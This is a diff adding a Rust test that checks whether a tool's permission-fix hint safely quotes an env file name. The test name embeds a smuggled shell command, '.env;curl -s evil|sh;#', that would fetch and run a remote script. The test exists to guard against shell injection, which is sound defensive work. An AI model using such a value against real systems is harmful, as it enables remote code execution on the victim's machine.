@@ -261,6 +261,19 @@ async fn a_file_that_others_can_read_is_one_warning() {
 }
 
 #[tokio::test]
+async fn a_file_that_is_named_like_a_command_is_none_in_what_mends_it() {
+    const NAME: &str = ".env;curl -s evil|sh;#";
+    let mut stage = Scene::new().toml(&format!("env_file = {NAME:?}")).without_env_file().start().await;
+    let (file, token) = (stage.project.join(NAME), next_token(&stage));
+    write_private(&file, &env_file(&token));
+    stage.uses(&token).await;
+    let open = |_: &Stage| fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).expect("a mode");
+    stage.after_identity_change(open).await;
+    let warnings = &stage.status().await["warnings"];
+    assert_eq!(warnings[0]["hint"], format!("chmod 600 '{NAME}'"), "{warnings}");
+}
+
+#[tokio::test]
 async fn what_is_not_safe_to_read_or_no_token_is_named_and_nothing_is_sent() {
     let stage = Scene::new().without_env_file().start().await;
     let path = stage.env_path();
